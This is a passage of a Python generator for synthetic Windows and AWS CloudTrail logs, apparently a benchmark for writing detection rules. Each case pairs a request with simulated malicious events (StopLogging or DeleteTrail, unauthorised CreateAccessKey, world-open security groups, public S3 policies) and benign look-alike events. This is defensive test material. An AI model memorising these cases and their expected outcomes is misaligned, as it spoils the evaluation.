          console_login(at("08:10:00"), root_id(), "No", ip="198.51.100.62")],
         [console_login(at("08:20:00"), iam_user("jsmith"), "Yes"),
          console_login(at("07:44:00"), iam_user("carol"), "No", ok=False, ip="198.51.100.61"),
          console_login(at("08:30:00"), role_id(SSO_ROLE, "bob@corp.example", "aws-reserved/sso.amazonaws.com/"), "No"),
          ct(at("08:31:00"), "sts.amazonaws.com", "GetCallerIdentity", iam_user("carol"), ip="198.51.100.61")])

    trail = "arn:aws:cloudtrail:eu-west-1:%s:trail/org-audit-trail" % ACCT
    case("31_cloudtrail_stopped_or_deleted", "cloud", "T1562.008",
         "Need a detection for anyone turning off CloudTrail: a StopLogging or DeleteTrail call.",
         [ct(at("03:20:00"), "cloudtrail.amazonaws.com", "StopLogging", iam_user("marketing-uploader"), {"name": trail}, None,
             ip="198.51.100.150"),
          ct(at("03:25:00"), "cloudtrail.amazonaws.com", "DeleteTrail", role_id("OrgAdminRole", "x"), {"name": "org-audit-trail"},
             None, ip="198.51.100.150"),
          ct(at("03:26:00"), "cloudtrail.amazonaws.com", "StopLogging", root_id(), {"name": "eu-backup-trail"}, None,
             ip="198.51.100.150", region="eu-central-1")],
         [ct(at("09:00:00"), "cloudtrail.amazonaws.com", "StartLogging", iam_user("jsmith"), {"name": trail}),
          ct(at("09:01:00"), "cloudtrail.amazonaws.com", "DescribeTrails", iam_user("jsmith"), {"trailNameList": [], "includeShadowTrails": True}),
          ct(at("09:02:00"), "cloudtrail.amazonaws.com", "GetTrailStatus", role_id("SecurityAuditRole", "audit"), {"name": trail}),
          ct(at("09:03:00"), "cloudtrail.amazonaws.com", "UpdateTrail", iam_user("svc-terraform"),
             {"name": trail, "isMultiRegionTrail": True}, None, ua=UA_TF),
          ct(at("09:04:00"), "cloudtrail.amazonaws.com", "CreateTrail", iam_user("svc-terraform"),
             {"name": "eu-backup-trail", "s3BucketName": "corp-cloudtrail-logs"}, None, ua=UA_TF)])

    def cak(dt, who, target, ip=OFFICE_IP, ua=None):
        return ct(dt, "iam.amazonaws.com", "CreateAccessKey", who, {"userName": target},
                  {"accessKey": {"userName": target, "accessKeyId": "AKIA" + "%016X" % R.getrandbits(64),
                                 "status": "Active", "createDate": "Feb 5, 2026 %s PM" % dt.strftime("%I:%M:%S")}},
                  region="us-east-1", ip=ip, ua=ua)
    case("32_access_key_created", "cloud", "T1098.001",
         "I want a rule for IAM access keys being created (CreateAccessKey), except when our Terraform automation "
         "user svc-terraform does it.",
         [cak(at("13:00:00"), iam_user("marketing-uploader"), "jsmith", ip="198.51.100.150"),
          cak(at("13:05:00"), iam_user("dave"), "dave"),
          cak(at("13:07:00"), role_id("OrgAdminRole", "x"), "ci-deployer", ip="198.51.100.150")],
         [cak(at("12:00:00"), iam_user("svc-terraform"), "ci-deployer", ua=UA_TF),
          ct(at("12:01:00"), "iam.amazonaws.com", "ListAccessKeys", iam_user("dave"), {"userName": "dave"}, region="us-east-1"),
          ct(at("12:02:00"), "iam.amazonaws.com", "DeleteAccessKey", iam_user("svc-terraform"),
             {"userName": "ci-deployer", "accessKeyId": "AKIA4EXAMPLE7OLDKEY"}, region="us-east-1", ua=UA_TF),
          ct(at("12:03:00"), "iam.amazonaws.com", "UpdateAccessKey", iam_user("dave"),
             {"userName": "dave", "accessKeyId": "AKIA4EXAMPLE7DAVE01", "status": "Inactive"}, region="us-east-1"),
          ct(at("12:04:00"), "iam.amazonaws.com", "CreateLoginProfile", iam_user("jsmith"),
             {"userName": "newhire", "passwordResetRequired": True}, {"loginProfile": {"userName": "newhire"}},
             region="us-east-1")])

    def sg_event(dt, name, who, group, perms, ip=OFFICE_IP):
        return ct(dt, "ec2.amazonaws.com", name, who, sg_params(group, perms), sg_resp(group, perms), ip=ip)
    case("33_security_group_open_to_world", "cloud", "T1562.007",
         "Flag security group ingress rules opened to the whole internet: AuthorizeSecurityGroupIngress with a source "
         "range of 0.0.0.0/0 or ::/0.",
         [sg_event(at("15:00:00"), "AuthorizeSecurityGroupIngress", iam_user("dave"), "sg-0a1b2c3d4e5f60718",
                   [sg_perm("tcp", 22, cidr="0.0.0.0/0")]),
          sg_event(at("15:02:00"), "AuthorizeSecurityGroupIngress", role_id("OrgAdminRole", "x"), "sg-0f9e8d7c6b5a40312",
                   [sg_perm("tcp", 3389, cidr="0.0.0.0/0")], ip="198.51.100.150"),
          sg_event(at("15:04:00"), "AuthorizeSecurityGroupIngress", iam_user("dave"), "sg-0a1b2c3d4e5f60718",
                   [sg_perm("tcp", 5432, cidr6="::/0")])],
         [sg_event(at("14:00:00"), "AuthorizeSecurityGroupIngress", iam_user("svc-terraform"), "sg-0a1b2c3d4e5f60718",
                   [sg_perm("tcp", 443, cidr="10.0.0.0/16")]),
          sg_event(at("14:01:00"), "AuthorizeSecurityGroupIngress", iam_user("jsmith"), "sg-0a1b2c3d4e5f60718",
                   [sg_perm("tcp", 22, cidr="203.0.113.10/32")]),
          sg_event(at("14:02:00"), "AuthorizeSecurityGroupEgress", iam_user("svc-terraform"), "sg-0a1b2c3d4e5f60718",
                   [sg_perm("-1", -1, cidr="0.0.0.0/0")]),
          sg_event(at("15:10:00"), "RevokeSecurityGroupIngress", iam_user("jsmith"), "sg-0a1b2c3d4e5f60718",
                   [sg_perm("tcp", 22, cidr="0.0.0.0/0")]),
          ct(at("14:03:00"), "ec2.amazonaws.com", "DescribeSecurityGroups", iam_user("jsmith"),
             {"securityGroupSet": {}, "securityGroupIdSet": {"items": [{"groupId": "sg-0a1b2c3d4e5f60718"}]},
              "filterSet": {"items": [{"name": "ip-permission.cidr", "valueSet": {"items": [{"value": "0.0.0.0/0"}]}}]}})])

    def pbp(dt, who, bucket, stmts, name="PutBucketPolicy", ip=OFFICE_IP):
        return ct(dt, "s3.amazonaws.com", name, who, bucket_policy_params(bucket, stmts), None, ip=ip)
    res = lambda b: "arn:aws:s3:::%s/*" % b
    case("34_s3_bucket_policy_public", "cloud", "T1530",
         "Find S3 bucket policies that open a bucket to everyone: PutBucketPolicy where the policy has an Allow "
         "statement whose principal is \"*\" (either \"*\" or {\"AWS\": \"*\"}).",
         [pbp(at("16:00:00"), iam_user("dave"), "corp-marketing-assets",
              [{"Sid": "PublicRead", "Effect": "Allow", "Principal": "*", "Action": "s3:GetObject",
                "Resource": res("corp-marketing-assets")}]),
          pbp(at("16:05:00"), role_id("OrgAdminRole", "x"), "corp-finance-exports",
              [{"Sid": "x", "Effect": "Allow", "Principal": {"AWS": "*"}, "Action": ["s3:GetObject", "s3:ListBucket"],
                "Resource": [res("corp-finance-exports"), "arn:aws:s3:::corp-finance-exports"]}], ip="198.51.100.150")],
         [pbp(at("15:50:00"), iam_user("svc-terraform"), "corp-shared-reports",
              [{"Sid": "PartnerRead", "Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::444455556666:root"},
                "Action": "s3:GetObject", "Resource": res("corp-shared-reports")}]),
          pbp(at("15:51:00"), iam_user("svc-terraform"), "corp-cloudtrail-logs",
              [{"Sid": "DenyInsecureTransport", "Effect": "Deny", "Principal": "*", "Action": "s3:*",
                "Resource": [res("corp-cloudtrail-logs"), "arn:aws:s3:::corp-cloudtrail-logs"],
                "Condition": {"Bool": {"aws:SecureTransport": "false"}}}]),
          ct(at("15:52:00"), "s3.amazonaws.com", "GetBucketPolicy", iam_user("jsmith"),
             {"bucketName": "corp-marketing-assets", "Host": "corp-marketing-assets.s3.eu-west-1.amazonaws.com", "policy": ""}),
          ct(at("16:10:00"), "s3.amazonaws.com", "DeleteBucketPolicy", iam_user("jsmith"),
             {"bucketName": "corp-marketing-assets", "Host": "corp-marketing-assets.s3.eu-west-1.amazonaws.com", "policy": ""})])


# =========================================================================== background
SITES = [("www.google.com", "142.250.74.36"), ("intranet.corp.example", "10.0.2.20"), ("corp.sharepoint.com", "13.107.136.10"),
         ("www.bbc.co.uk", "151.101.0.81"), ("fonts.gstatic.com", "142.250.185.99"), ("cdn.jsdelivr.net", "151.101.1.229"),
         ("www.linkedin.com", "13.107.42.14"), ("en.wikipedia.org", "185.15.59.224"), ("www.salesforce.com", "104.109.11.129")]
DEV_SITES = [("github.com", "140.82.121.4"), ("stackoverflow.com", "104.18.32.7"), ("docs.python.org", "151.101.0.223"),
             ("pypi.org", "151.101.64.223")]
SYS_DNS = [("settings-win.data.microsoft.com", "20.42.73.29"), ("ctldl.windowsupdate.com", "13.107.4.50"),
           ("v10.events.data.microsoft.com", "20.189.173.1"), ("wdcp.microsoft.com", "52.152.108.96"),
           ("time.windows.com", "168.61.215.74")]
DOCS = ["Q1 plan.docx", "Budget notes.docx", "Customer list.xlsx", "Board update.docx", "Travel expenses.xlsx",
        "Meeting minutes.docx", "Sales forecast.xlsx"]


def rand_time(day, h0, h1):
    return day + timedelta(seconds=R.randint(int(h0 * 3600), int(h1 * 3600)))


def dns_and_conn(t, host, image, user, name, ip, port=443):
    return [sysmon22(t, host, image, name, "::ffff:%s;" % ip, user),
            sysmon3(t + timedelta(milliseconds=300), host, image, user, ip, port, name)]


def nightly(day):
    E = []
    t = day + timedelta(hours=1, seconds=R.randint(0, 240))
    for i, h in enumerate(ALL_HOSTS):
        E.append(s4624(t + timedelta(seconds=20 * i), h, "svc-backup", 3, "10.0.2.10", "FS01"))
        E.append(s4634(t + timedelta(minutes=25, seconds=20 * i), h, "svc-backup", 3))
    c = "vssadmin list shadows"
    E.append(sysmon1(t + timedelta(minutes=1), "FS01", r"C:\Windows\System32\vssadmin.exe", c, CMD,
                     r'cmd.exe /c "C:\Scripts\backup-pre.cmd"', "svc-backup", "High"))
    E.append(s4688(t + timedelta(minutes=1), "FS01", r"C:\Windows\System32\vssadmin.exe", c, CMD, "svc-backup"))
    return E


SYS_PROCS = [
    (r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
     SVCHOST, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
    (SVCHOST, r"C:\Windows\system32\svchost.exe -k wsappx -p -s ClipSVC", SERVICES, SERVICES),
    (SVCHOST, r"C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS", SERVICES, SERVICES),
    (r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe",
     '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe" -IdleTask -TaskName WdCacheMaintenance',
     SVCHOST, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
    (r"C:\Windows\System32\wuauclt.exe",
     '"C:\\Windows\\system32\\wuauclt.exe" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId 5e0f7c4a-3b1d-4c2e-9f10-0a1b2c3d4e5f /RunHandlerComServer',
     SVCHOST, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv"),
    (r"C:\Windows\System32\gpupdate.exe", "gpupdate.exe /target:computer", SVCHOST,
     r"C:\Windows\system32\svchost.exe -k GPSvcGroup"),
    (r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
     r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe"),
]


def host_noise(day, host):
    E = []
    server = host in SERVERS
    for slot in range(0, 24, 2):
        t = day + timedelta(hours=slot, seconds=R.randint(60, 7000))
        img, cmd, par, pcmd = R.choice(SYS_PROCS)
        E.append(sysmon1(t, host, img, cmd, par, pcmd, "SYSTEM", "System"))
        if server:
            E.append(s4688(t, host, img, cmd, par, host + "$"))
        if R.random() < 0.6:
            n, ip = R.choice(SYS_DNS)
            E += dns_and_conn(t + timedelta(seconds=R.randint(5, 300)), host, SVCHOST, "NETWORK SERVICE", n, ip,
                              80 if "windowsupdate" in n else 443)
    for _ in range(4):
        E.append(sysmon10(rand_time(day, 0, 24), host, MSMPENG, LSASS, R.choice(["0x1000", "0x101000", "0x1010"]), "SYSTEM"))
    if server:
        for _ in range(2):
            E.append(sysmon10(rand_time(day, 0, 24), host, FALCON, LSASS, "0x101000", "SYSTEM"))
    E.append(sysmon11(rand_time(day, 3, 6), host, MSMPENG,
                      r"C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{%s}\mpavbase.vdm" % guid()[1:-1].upper(),
                      "SYSTEM"))
    for _ in range(2):
        exe = R.choice(["CHROME.EXE-5C1A8E2B", "SVCHOST.EXE-7A3B1C2D", "CONHOST.EXE-0C6456FB", "MPCMDRUN.EXE-2F1B3A9D"])
        E.append(sysmon11(rand_time(day, 0, 24), host, SVCHOST, r"C:\Windows\Prefetch\%s.pf" % exe, "SYSTEM"))
    for _ in range(2):
        E.append(sysmon13(rand_time(day, 7, 19), host, SVCHOST,
                          r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\%s%d\\Device\HarddiskVolume3\Windows\System32\cmd.exe"
                          % (SID_BASE, R.choice([1104, 1105, 1106, 1107])), "Binary Data", "SYSTEM"))
    if host == "APP01":
        t = rand_time(day, 6, 7)
        E.append(sysmon1(t, host, W3WP, W3WP_CMD, SVCHOST, r"C:\Windows\system32\svchost.exe -k iissvcs",
                         r"IIS APPPOOL\IntranetPool", "High"))
        E.append(s4688(t, host, W3WP, W3WP_CMD, SVCHOST, "APP01$"))
        if day.day == 3:
            cc = (r'"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /noconfig /fullpaths '
                  r'@"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\5f1c2a\9b7e1d.cmdline"')
            E.append(sysmon1(t + timedelta(minutes=3), host, r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe", cc,
                             W3WP, W3WP_CMD, r"IIS APPPOOL\IntranetPool"))
    return E


def user_day(day, ws):
    user, ip, rid = WS[ws]
    E = []
    t = day + timedelta(hours=8, seconds=R.randint(0, 2700))
    if R.random() < 0.3:
        E.append(s4625(t - timedelta(seconds=15), ws, user, 2, "127.0.0.1", ws, pkg="Negotiate",
                       proc=r"C:\Windows\System32\svchost.exe"))
    E.append(s4624(t, ws, user, 2, "127.0.0.1", ws, pkg="Negotiate", proc=r"C:\Windows\System32\svchost.exe"))
    E.append(s4624(t + timedelta(seconds=1), "DC01", user, 3, ip, ws))
    E.append(s4769(t + timedelta(seconds=1), user, ws + "$", ip))
    E.append(s4769(t + timedelta(seconds=2), user, "DC01$", ip))
    E.append(sysmon1(t + timedelta(seconds=3), ws, r"C:\Windows\System32\userinit.exe", r"C:\Windows\system32\userinit.exe",
                     r"C:\Windows\System32\winlogon.exe", "winlogon.exe", user))
    E.append(sysmon1(t + timedelta(seconds=4), ws, EXPLORER, r"C:\Windows\Explorer.EXE", r"C:\Windows\System32\userinit.exe",
                     r"C:\Windows\system32\userinit.exe", user))
    ls = t + timedelta(seconds=6)
    E.append(sysmon1(ls, ws, CMD, r'C:\Windows\system32\cmd.exe /c "\\corp.example\NETLOGON\logon.cmd"',
                     r"C:\Windows\System32\gpscript.exe", "gpscript.exe /Logon", user))
    E.append(sysmon1(ls + timedelta(seconds=1), ws, NET, r"net use H: \\FS01\home\%s /persistent:no" % user, CMD,
                     r'C:\Windows\system32\cmd.exe /c "\\corp.example\NETLOGON\logon.cmd"', user))
    E.append(s4769(ls + timedelta(seconds=1), user, "FS01$", ip))
    E.append(s4624(ls + timedelta(seconds=2), "FS01", user, 3, ip, ws))
    E.append(sysmon3(ls + timedelta(seconds=1), ws, "System", "SYSTEM", "10.0.2.10", 445, "FS01.corp.example"))
    E.append(sysmon3(ls + timedelta(seconds=2), ws, "System", "SYSTEM", "10.0.2.5", 445, "DC01.corp.example"))
    hk = r"%s%d\Software\Microsoft\Windows\CurrentVersion\Run" % (r"HKU\S-1-5-21-3623811015-3361044348-30300820-", rid)
    t2 = t + timedelta(seconds=20)
    od = ONEDRIVE
    E.append(sysmon1(t2, ws, od, '"%s" /background' % od, EXPLORER, r"C:\Windows\Explorer.EXE", user))
    E.append(sysmon13(t2 + timedelta(seconds=5), ws, od, hk + r"\OneDrive", '"%s" /background' % od, user))
    E += dns_and_conn(t2 + timedelta(seconds=8), ws, od, user, "onedrive.live.com", "13.107.42.13")
    E.append(sysmon1(t2 + timedelta(seconds=2), ws, TEAMS, '"%s" msteams:system-initiated' % TEAMS, EXPLORER,
                     r"C:\Windows\Explorer.EXE", user))
    if R.random() < 0.5:
        E.append(sysmon13(t2 + timedelta(seconds=9), ws, TEAMS, hk + r"\ms-teams", '"%s" msteams:system-initiated' % TEAMS, user))
    E += dns_and_conn(t2 + timedelta(seconds=12), ws, TEAMS, user, "teams.microsoft.com", "52.113.194.132")
    E.append(sysmon1(t2 + timedelta(seconds=40), ws, OUTLOOK, '"%s"' % OUTLOOK, EXPLORER, r"C:\Windows\Explorer.EXE", user))
    E += dns_and_conn(t2 + timedelta(seconds=44), ws, OUTLOOK, user, "outlook.office365.com", "52.97.201.226")
    if day.day == 2:
        E.append(s4698(t2 + timedelta(seconds=30), ws, user,
                       r"\OneDrive Standalone Update Task-%s%d" % (SID_BASE, rid),
                       task_xml(r"C:\Users\%s\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe" % user,
                                "/reporting", "CORP\\" + user)))

    acts = ["browse"] * 6 + ["word", "excel", "download", "teams", "teams", "edge", "app01"]
    if user == "dave":
        acts += ["dev"] * 6 + ["browse_dev"] * 3 + ["ipconfig"]
    if user == "jsmith":
        acts += ["ipconfig", "whoami", "admin_ps", "admin_ps", "runmru"]
    if user == "bob":
        acts += ["excel", "excel", "print"]
    if user == "carol":
        acts += ["word", "browse", "runmru"]
    times = sorted(rand_time(day, 9.2, 16.8) for _ in range(R.randint(14, 20)))
    last_recon = None
    for tt in times:
        a = R.choice(acts)
        if a in ("ipconfig", "whoami"):
            if last_recon and (tt - last_recon).total_seconds() < 1800:
                a = "browse"
            else:
                last_recon = tt
        if a == "browse" or a == "browse_dev":
            n, dip = R.choice(DEV_SITES if a == "browse_dev" else SITES)
            if R.random() < 0.4:
                E.append(sysmon1(tt, ws, CHROME, '"%s" --profile-directory=Default' % CHROME, EXPLORER,
                                 r"C:\Windows\Explorer.EXE", user))
            E += dns_and_conn(tt + timedelta(seconds=1), ws, CHROME, user, n, dip)
        elif a == "edge":
            n, dip = R.choice(SITES)
            E.append(sysmon1(tt, ws, MSEDGE, '"%s" --single-argument https://%s/' % (MSEDGE, n), EXPLORER,
                             r"C:\Windows\Explorer.EXE", user))
            E += dns_and_conn(tt + timedelta(seconds=1), ws, MSEDGE, user, n, dip)
        elif a in ("word", "excel"):
            doc = R.choice([d for d in DOCS if d.endswith(".docx" if a == "word" else ".xlsx")])
            img = WINWORD if a == "word" else EXCEL
            path = r"C:\Users\%s\Documents\%s" % (user, doc)
            E.append(sysmon1(tt, ws, img, '"%s" "%s"' % (img, path), EXPLORER, r"C:\Windows\Explorer.EXE", user))
            E.append(sysmon11(tt + timedelta(seconds=3), ws, img, r"C:\Users\%s\Documents\~$%s" % (user, doc[2:]), user))
            if a == "excel" and R.random() < 0.6:
                E.append(s4769(tt + timedelta(seconds=10), user, "svc-sql", ip))
        elif a == "print":
            E.append(sysmon1(tt, ws, r"C:\Windows\splwow64.exe", r"C:\Windows\splwow64.exe 12288", EXCEL, '"%s"' % EXCEL, user))
        elif a == "download":
            f = R.choice(["invoice-%d.pdf" % R.randint(1000, 9999), "agenda.pdf", "brochure.pdf", "screenshot.png"])
            E.append(sysmon11(tt, ws, CHROME, r"C:\Users\%s\Downloads\%s" % (user, f), user))
        elif a == "teams":
            E += dns_and_conn(tt, ws, TEAMS, user, R.choice(["teams.microsoft.com", "statics.teams.cdn.office.net"]),
                              R.choice(["52.113.194.132", "52.123.128.14"]))
        elif a == "app01":
            E.append(s4769(tt, user, "APP01$", ip))
            E.append(s4624(tt + timedelta(seconds=1), "APP01", user, 3, ip, ws))
            E += dns_and_conn(tt + timedelta(seconds=1), ws, CHROME, user, "intranet.corp.example", "10.0.2.20")
        elif a == "ipconfig":
            E.append(sysmon1(tt, ws, CMD, r'"C:\Windows\system32\cmd.exe"', EXPLORER, r"C:\Windows\Explorer.EXE", user))
            E.append(sysmon1(tt + timedelta(seconds=20), ws, IPCONFIG, "ipconfig /all", CMD, r'"C:\Windows\system32\cmd.exe"', user))
        elif a == "whoami":
            E.append(sysmon1(tt, ws, WHOAMI, "whoami /groups", CMD, r'"C:\Windows\system32\cmd.exe"', user))
        elif a == "runmru":
            E.append(sysmon13(tt, ws, EXPLORER, r"HKU\%s%d\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a" % (SID_BASE, rid),
                              r"\\FS01\share\1", user))
        elif a == "admin_ps":
            c = R.choice([PS + r" -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\Get-DiskReport.ps1",
                          'powershell.exe -NoProfile -Command "Test-NetConnection FS01 -Port 445"',
                          'powershell.exe -NoProfile -Command "Get-ADUser -Identity bob -Properties LastLogonDate"',
                          'powershell.exe -NoProfile -Command "Get-Service -ComputerName APP01 -Name W3SVC"'])
            E.append(s4624(tt - timedelta(seconds=5), ws, "adm-jsmith", 2, "127.0.0.1", ws, pkg="Negotiate",
                           proc=r"C:\Windows\System32\consent.exe"))
            E.append(s4672(tt - timedelta(seconds=5), ws, "adm-jsmith"))
            E.append(s4769(tt + timedelta(seconds=3), "adm-jsmith", R.choice(["FS01$", "APP01$", "DC01$"]), ip))
            E.append(sysmon1(tt, ws, PS, c, EXPLORER, r"C:\Windows\Explorer.EXE", "adm-jsmith", "High"))
        elif a == "dev":
            k = R.randint(0, 3)
            if k == 0:
                E.append(sysmon1(tt, ws, CODE, '"%s" C:\\src\\billing-api' % CODE, EXPLORER, r"C:\Windows\Explorer.EXE", user))
            elif k == 1:
                E.append(sysmon1(tt, ws, GIT, "git fetch origin", CODE, '"%s"' % CODE, user))
                E += dns_and_conn(tt + timedelta(seconds=1), ws, r"C:\Program Files\Git\mingw64\bin\git-remote-https.exe", user,
                                  "github.com", "140.82.121.4")
            elif k == 2:
                E.append(sysmon1(tt, ws, PYTHON, "python.exe -m pip install -r requirements.txt", PWSH, '"%s"' % PWSH, user))
                E += dns_and_conn(tt + timedelta(seconds=2), ws, PYTHON, user, "pypi.org", "151.101.64.223")
                E.append(sysmon11(tt + timedelta(seconds=6), ws, PYTHON,
                                  r"C:\Users\dave\AppData\Local\Programs\Python\Python312\Lib\site-packages\requests\__init__.py", user))
            else:
                E.append(sysmon1(tt, ws, PYTHON, r"python.exe C:\src\billing-api\manage.py test", PWSH, '"%s"' % PWSH, user))
    if user == "dave" and day.day == 3:
        tt = rand_time(day, 11, 12)
        E.append(sysmon1(tt, ws, CERTUTIL, r"certutil.exe -hashfile C:\Users\dave\Downloads\python-3.12.2-amd64.exe SHA256",
                         CMD, r'"C:\Windows\system32\cmd.exe"', user))
    if user == "carol" and day.day == 4:
        tt = rand_time(day, 10, 11)
        E.append(sysmon11(tt, ws, CHROME, r"C:\Users\carol\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Chrome Apps\Salesforce.lnk",
                          user))
    t_off = day + timedelta(hours=17, seconds=R.randint(0, 3000))
    E.append(s4634(t_off, ws, user, 2))
    E.append(s4634(t_off + timedelta(seconds=2), "DC01", user, 3))
    return E


def admin_day(day):
    E = []
    for base in (10.0, 13.5, 16.0):
        t = day + timedelta(hours=base, seconds=R.randint(-600, 600))
        srv = R.choice(list(SERVERS))
        E.append(s4769(t - timedelta(seconds=2), "adm-jsmith", srv + "$", "10.0.1.21"))
        E.append(s4624(t, srv, "adm-jsmith", 10, "10.0.1.21", "WS01", pkg="Negotiate", proc=r"C:\Windows\System32\svchost.exe"))
        E.append(s4672(t, srv, "adm-jsmith"))
        cmds = [(PS, {"DC01": 'powershell.exe -NoProfile -Command "Get-ADUser -Filter * -SearchBase \'OU=Staff,DC=corp,DC=example\' | Measure-Object"',
                      "FS01": 'powershell.exe -NoProfile -Command "Get-SmbShare | Format-Table Name,Path"',
                      "APP01": 'powershell.exe -NoProfile -Command "Get-Website | Select Name,State"'}[srv], EXPLORER)]
        if R.random() < 0.5:
            cmds.append((IPCONFIG, "ipconfig /all", CMD))
        if R.random() < 0.3:
            cmds.append((WHOAMI, "whoami /priv", CMD))
        if srv == "DC01":
            cmds.append((r"C:\Windows\System32\mmc.exe", r'"C:\Windows\system32\mmc.exe" "C:\Windows\system32\dsa.msc"', EXPLORER))
        for i, (img, c, par) in enumerate(cmds):
            tt = t + timedelta(minutes=2 + 3 * i)
            E.append(sysmon1(tt, srv, img, c, par, r"C:\Windows\Explorer.EXE" if par == EXPLORER else "cmd.exe", "adm-jsmith", "High"))
            E.append(s4688(tt, srv, img, c, par, "adm-jsmith"))
        E.append(s4634(t + timedelta(minutes=25), srv, "adm-jsmith", 10))
    if day.day == 2:
        t = rand_time(day, 14, 15)
        E.append(s7045(t, "FS01", "Sysmon64", r"C:\Windows\Sysmon64.exe", start="auto start"))
    if day.day == 3:
        t = rand_time(day, 11, 12)
        E.append(s47xx(t, "APP01", 4732, "adm-jsmith", "Remote Desktop Users", "CN=Dave Brown,OU=Staff,DC=corp,DC=example",
                       member_sid=SID_BASE + "1107"))
        E.append(s7045(t + timedelta(minutes=30), "WS04", "Google Chrome Elevation Service (GoogleChromeElevationService)",
                       r'"C:\Program Files\Google\Chrome\Application\121.0.6167.140\elevation_service.exe"'))
        E.append(s4698(t + timedelta(minutes=31), "WS04", "SYSTEM", r"\GoogleUpdateTaskMachineUA{4C3A1E2B-77A0-4F10-9B1C-2E0D6A2B9F11}",
                       task_xml(r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", "/ua /installsource scheduler", "SYSTEM")))
    if day.day == 4:
        t = rand_time(day, 10, 11)
        E.append(s4720(t, "DC01", "adm-jsmith", "mlopez"))
        E.append(s47xx(t + timedelta(seconds=5), "DC01", 4728, "adm-jsmith", "Domain Users",
                       "CN=Maria Lopez,OU=Staff,DC=corp,DC=example", target_domain="CORP", member_sid=SID_BASE + "1130"))
    return E


def machine_accounts(day):
    E = []
    for h in ALL_HOSTS:
        if h == "DC01":
            continue
        for slot in range(0, 24, 4):
            t = day + timedelta(hours=slot, seconds=R.randint(0, 3600))
            E.append(s4624(t, "DC01", h + "$", 3, HOST_IP[h], "-"))
            E.append(s4634(t + timedelta(seconds=R.randint(2, 30)), "DC01", h + "$", 3))
    return E


def cloud_day(day):
    E = []
    js, dv = iam_user("jsmith"), iam_user("dave")
    t = rand_time(day, 8.9, 9.3)
    if day.day == 4:
        E.append(console_login(t - timedelta(seconds=40), js, "No", ok=False))
    E.append(console_login(t, js, "Yes"))
    for i, (src, n, p) in enumerate([
            ("ec2", "DescribeInstances", {"instancesSet": {}, "filterSet": {}}),
            ("ec2", "DescribeSecurityGroups", {"securityGroupSet": {}, "securityGroupIdSet": {}, "filterSet": {}}),
            ("s3", "ListBuckets", {"Host": "s3.eu-west-1.amazonaws.com"}),
            ("cloudtrail", "DescribeTrails", {"trailNameList": [], "includeShadowTrails": True}),
            ("cloudtrail", "GetTrailStatus", {"name": "arn:aws:cloudtrail:eu-west-1:%s:trail/org-audit-trail" % ACCT}),
            ("iam", "ListUsers", None), ("iam", "GetAccountSummary", None),
            ("cloudwatch", "DescribeAlarms", {"maxRecords": 100})]):
        E.append(ct(t + timedelta(minutes=1 + 2 * i), src + ".amazonaws.com", n, js, p, ua=UA_WEB,
                    region="us-east-1" if src == "iam" else "eu-west-1"))
    t = rand_time(day, 9.5, 10.5)
    E.append(console_login(t, dv, "Yes"))
    for i, (src, n, p) in enumerate([("logs", "DescribeLogGroups", {"limit": 50}),
                                     ("lambda", "ListFunctions20150331", None),
                                     ("lambda", "GetFunction20150331v2", {"functionName": "thumbnailer"}),
                                     ("logs", "DescribeLogStreams", {"logGroupName": "/aws/lambda/thumbnailer"})]):
        E.append(ct(t + timedelta(minutes=1 + 3 * i), src + ".amazonaws.com", n, dv, p, ua=UA_WEB))
    t = rand_time(day, 11, 12)
    sso = role_id(SSO_ROLE, "bob@corp.example", "aws-reserved/sso.amazonaws.com/")
    E.append(console_login(t, sso, "No"))
    E.append(ct(t + timedelta(minutes=2), "ce.amazonaws.com", "GetCostAndUsage", sso,
                {"timePeriod": {"start": "2026-01-01", "end": "2026-02-01"}, "granularity": "MONTHLY"}, ua=UA_WEB,
                region="us-east-1"))
    E.append(ct(t + timedelta(minutes=4), "ec2.amazonaws.com", "DescribeInstances", sso, {"instancesSet": {}, "filterSet": {}},
                ua=UA_WEB))
    ci = iam_user("ci-deployer")
    for h in range(9, 18):
        if R.random() < 0.5:
            tt = day + timedelta(hours=h, seconds=R.randint(0, 3000))
            for i, (src, n, p) in enumerate([("sts", "GetCallerIdentity", None),
                                             ("ecr", "GetAuthorizationToken", {"registryIds": [ACCT]}),
                                             ("ecs", "DescribeServices", {"cluster": "prod", "services": ["billing-api"]}),
                                             ("ecs", "UpdateService", {"cluster": "prod", "service": "billing-api",
                                                                       "forceNewDeployment": True})]):
                E.append(ct(tt + timedelta(seconds=20 * i), src + ".amazonaws.com", n, ci, p, ip="34.240.10.20"))
    for h in range(0, 24, 2):
        tt = day + timedelta(hours=h, seconds=R.randint(0, 3600))
        role = "arn:aws:iam::%s:role/lambda-thumbnailer" % ACCT
        E.append(ct(tt, "sts.amazonaws.com", "AssumeRole", svc_id("lambda.amazonaws.com"),
                    {"roleArn": role, "roleSessionName": "thumbnailer"},
                    {"credentials": {"accessKeyId": "ASIA" + "%016X" % R.getrandbits(64), "sessionToken": "IQoJb3JpZ2luX2VjE...",
                                     "expiration": "Feb %d, 2026, %d:00:00 PM" % (day.day, (h % 12) + 1)},
                     "assumedRoleUser": {"assumedRoleId": "AROAEXAMPLEROLEID:thumbnailer",
